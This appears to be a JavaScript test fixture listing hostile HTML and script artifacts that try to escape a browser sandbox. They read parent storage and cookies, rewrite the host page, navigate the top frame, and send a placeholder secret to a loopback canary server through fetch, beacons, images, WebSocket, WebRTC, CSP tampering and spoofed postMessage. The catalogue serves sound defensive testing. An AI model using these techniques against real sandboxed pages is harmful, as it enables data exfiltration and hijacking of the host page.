// Hostile artifacts: each tries one way out of the sandbox and logs ATTACK-DONE when it has
// tried (so a test can tell "blocked" from "never ran"). `C` is the canary origin (a loopback
// server that records every connection), `S` the secret the studio page holds in its own
// storage. An attack that worked would reach C, show S, change the studio, or open a page.
export const SECRET = 'kiln-secret-7f3a9c';

const done = `setTimeout(() => console.log('ATTACK-DONE'), 400);`;
// Attacks that navigate their own frame act after ATTACK-DONE, since a blocked navigation
// replaces the frame with an error page. Chromium opens a TCP connection (and resolves the
// host) for a frame navigation before CSP refuses it; no request is sent. The suite allows
// that one connection for attacks marked `preconnects`, and README's Sandbox limits says so.
const later = (js) => `setTimeout(() => { ${js} }, 700);`;
const NAV = { navigates: true };
const NAV_PRECONNECTS = { navigates: true, preconnects: true };
// Firefox and WebKitGTK open a connection (no request) for resource hints despite the CSP, and
// WebKitGTK for a link to a popup the sandbox then refuses (README, Browser support).
const HINT_PRECONNECTS = { preconnectsOn: ['firefox', 'webkit'] };
const WEBKIT_PRECONNECTS = { preconnectsOn: ['webkit'] };
const script = (js) => `<!DOCTYPE html><html><body><p>attack</p><script>
const C = '__C__'; const S = 'exfil-data';
const report = (what, v) => console.log('RESULT ' + what + ' ' + String(v));
const attempt = (what, f) => { try { const v = f(); report(what, v); return v; } catch (e) { report(what, 'threw ' + e.name); } };
${js}
${done}
</script></body></html>`;

export const ATTACKS = [
  // Reading what belongs to the studio page.
  ['read parent localStorage', script(`attempt('parent.localStorage', () => parent.localStorage.getItem('kiln.secret'));`)],
  ['read top localStorage', script(`attempt('top.localStorage', () => top.localStorage.getItem('kiln.secret'));`)],
  ['read own localStorage (the shim)', script(`attempt('localStorage', () => localStorage.getItem('kiln.secret') + ' ' + Object.keys(localStorage).join(','));`)],
  ['read sessionStorage of top', script(`attempt('top.sessionStorage', () => top.sessionStorage.getItem('kiln.secret'));`)],
  ['read own cookies', script(`attempt('document.cookie', () => document.cookie);`)],
  ['read top cookies', script(`attempt('top.document.cookie', () => top.document.cookie);`)],
  ['read IndexedDB', script(`try { const r = indexedDB.open('kiln-secret-db'); r.onsuccess = () => report('idb', r.result.objectStoreNames.length); r.onerror = () => report('idb', 'error'); } catch (e) { report('idb', 'threw ' + e.name); }`)],
  ['read Cache Storage', script(`try { caches.keys().then((k) => report('caches', k.join(',')), (e) => report('caches', 'rejected ' + e.name)); } catch (e) { report('caches', 'threw ' + e.name); }`)],
  ['read the studio DOM', script(`attempt('top.document', () => top.document.body.innerText);`)],
  ['write the studio DOM', script(`attempt('write top', () => { top.document.body.innerHTML = '<h1>PWNED</h1>'; return 'written'; });`)],
  ['reach the runner DOM', script(`attempt('parent.document', () => parent.document.documentElement.outerHTML);`)],
  ['walk top.frames', script(`attempt('top.frames', () => top.frames[0].document.body.innerHTML);`)],
  ['relax document.domain', script(`attempt('domain', () => { document.domain = '127.0.0.1'; return top.document.cookie; });`)],
  // Leaving: navigation, popups, forms.
  ['navigate top by assignment', script(`attempt('top.location', () => { top.location = C + '/top'; return 'assigned'; });`)],
  ['navigate top by replace()', script(`attempt('top.replace', () => { top.location.replace(C + '/replace'); return 'called'; });`)],
  ['navigate top with a target=_top link', script(`const a = document.createElement('a'); a.href = C + '/link-top'; a.target = '_top'; document.body.append(a); attempt('click', () => { a.click(); return 'clicked'; });`)],
  ['navigate top with a target=_top form', script(`const f = document.createElement('form'); f.action = C + '/form-top'; f.target = '_top'; document.body.append(f); attempt('submit', () => { f.submit(); return 'submitted'; });`)],
  ['open a popup', script(`attempt('window.open', () => window.open(C + '/popup'));`)],
  ['open a popup with a target=_blank link', script(`const a = document.createElement('a'); a.href = C + '/blank'; a.target = '_blank'; document.body.append(a); attempt('click', () => { a.click(); return 'clicked'; });`), WEBKIT_PRECONNECTS],
  ['post a form to another site', script(`const f = document.createElement('form'); f.method = 'post'; f.action = C + '/post'; const i = document.createElement('input'); i.name = 'x'; i.value = S; f.append(i); document.body.append(f); ${later("f.submit();")}`), NAV_PRECONNECTS],
  ['meta refresh to another site', `<!DOCTYPE html><html><head><meta http-equiv="refresh" content="1;url=__C__/refresh"></head><body><script>console.log('ATTACK-DONE')</script></body></html>`, NAV_PRECONNECTS],
  ['navigate the artifact frame itself', script(later(`location.href = C + '/self';`)), NAV_PRECONNECTS],
  ['navigate the runner frame', script(`attempt('parent.location', () => { parent.location = C + '/runner'; return 'assigned'; });`)],
  ['frame another site', `<!DOCTYPE html><html><body><iframe src="__C__/iframe"></iframe><script>console.log('ATTACK-DONE')</script></body></html>`, NAV_PRECONNECTS],
  // Exfiltration by request.
  ['fetch', script(`fetch(C + '/fetch?s=' + S).then(() => report('fetch', 'ok'), (e) => report('fetch', e.name));`)],
  ['fetch no-cors', script(`fetch(C + '/nocors', { mode: 'no-cors' }).then(() => report('fetch', 'ok'), (e) => report('fetch', e.name));`)],
  ['XMLHttpRequest', script(`attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', C + '/xhr'); x.send(); return 'sent'; });`)],
  ['WebSocket', script(`attempt('ws', () => new WebSocket(C.replace('http', 'ws') + '/ws'));`)],
  ['EventSource', script(`attempt('es', () => new EventSource(C + '/es'));`)],
  ['sendBeacon', script(`attempt('beacon', () => navigator.sendBeacon(C + '/beacon', S));`)],
  ['image', `<!DOCTYPE html><html><body><img src="__C__/img.png"><script>console.log('ATTACK-DONE')</script></body></html>`],
  ['image created by script', script(`new Image().src = C + '/img2?s=' + S;`)],
  ['CSS background image', `<!DOCTYPE html><html><head><style>body{background:url(__C__/bg.png)}</style></head><body><script>console.log('ATTACK-DONE')</script></body></html>`],
  ['CSS @import', `<!DOCTYPE html><html><head><style>@import url(__C__/import.css);</style></head><body><script>console.log('ATTACK-DONE')</script></body></html>`],
  ['web font', `<!DOCTYPE html><html><head><style>@font-face{font-family:x;src:url(__C__/font.woff2)}body{font-family:x}</style></head><body>text<script>console.log('ATTACK-DONE')</script></body></html>`],
  ['external script', `<!DOCTYPE html><html><body><script src="__C__/evil.js"></script><script>console.log('ATTACK-DONE')</script></body></html>`],
  ['external stylesheet', `<!DOCTYPE html><html><head><link rel="stylesheet" href="__C__/evil.css"></head><body><script>console.log('ATTACK-DONE')</script></body></html>`],
  ['prefetch and preload', `<!DOCTYPE html><html><head><link rel="prefetch" href="__C__/prefetch"><link rel="preload" as="fetch" href="__C__/preload" crossorigin></head><body><script>console.log('ATTACK-DONE')</script></body></html>`],
  ['dns-prefetch and preconnect', `<!DOCTYPE html><html><head><link rel="dns-prefetch" href="__C__"><link rel="preconnect" href="__C__"></head><body><script>console.log('ATTACK-DONE')</script></body></html>`, HINT_PRECONNECTS],
  ['media elements', `<!DOCTYPE html><html><body><video src="__C__/v.mp4" autoplay muted></video><audio src="__C__/a.mp3" autoplay></audio><script>console.log('ATTACK-DONE')</script></body></html>`],
  ['object and embed', `<!DOCTYPE html><html><body><object data="__C__/obj"></object><embed src="__C__/embed"><script>console.log('ATTACK-DONE')</script></body></html>`],
  ['SVG image', `<!DOCTYPE html><html><body><svg><image href="__C__/svg.png" width="10" height="10"/></svg><script>console.log('ATTACK-DONE')</script></body></html>`],
  ['base href then relative URL', `<!DOCTYPE html><html><head><base href="__C__/base/"></head><body><img src="rel.png"><script>console.log('ATTACK-DONE')</script></body></html>`],
  ['worker from another site', script(`attempt('worker', () => new Worker(C + '/worker.js'));`)],
  ['fetch from a blob worker', script(`attempt('blob worker', () => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('" + C + "/from-worker').catch(()=>{})"], { type: 'text/javascript' }))); return 'started'; });`)],
  ['dynamic import', script(`import(C + '/mod.js').then(() => report('import', 'ok'), (e) => report('import', e.name));`)],
  ['WebRTC through a TURN server', script(`attempt('rtc', () => { const pc = new RTCPeerConnection({ iceServers: [{ urls: 'turn:' + C.slice(7) + '?transport=tcp', username: S, credential: 'x' }] }); pc.createDataChannel('x'); pc.createOffer().then((o) => pc.setLocalDescription(o)); return 'started'; });`)],
  // Tampering with the policy.
  ['remove the CSP meta, then fetch', script(`document.querySelectorAll('meta').forEach((m) => m.remove()); fetch(C + '/after-remove').catch(() => {});`)],
  ['add a permissive CSP meta, then fetch', `<!DOCTYPE html><html><head><meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'; connect-src *"></head><body><script>fetch('__C__/after-add').catch(() => {}); setTimeout(() => console.log('ATTACK-DONE'), 300);</script></body></html>`],
  ['policy pre-empting tricks (BOM, comment, CDATA, fake head)', `\ufeff<!-- <head> --><![CDATA[<head>]]><!doctype html SYSTEM "about:legacy-compat"><html><head><meta http-equiv="Content-Security-Policy" content="connect-src *"></head><body><script>fetch('__C__/preempt').catch(() => {}); setTimeout(() => console.log('ATTACK-DONE'), 300);</script></body></html>`],
  ['register a service worker', script(`try { navigator.serviceWorker.register(URL.createObjectURL(new Blob([''], { type: 'text/javascript' }))).then(() => report('sw', 'registered'), (e) => report('sw', 'rejected ' + e.name)); } catch (e) { report('sw', 'threw ' + e.name); }`)],
  // Speaking for the bridge.
  ['spoof bridge messages to the studio', script(`const fake = JSON.stringify({ v: 1, token: 'guess', msg: { type: 'console', level: 'log', text: 'SPOOFED' } }); top.postMessage(fake, '*'); parent.postMessage(fake, '*'); top.postMessage({ kiln: 'connect' }, '*', [new MessageChannel().port2]);`)],
];
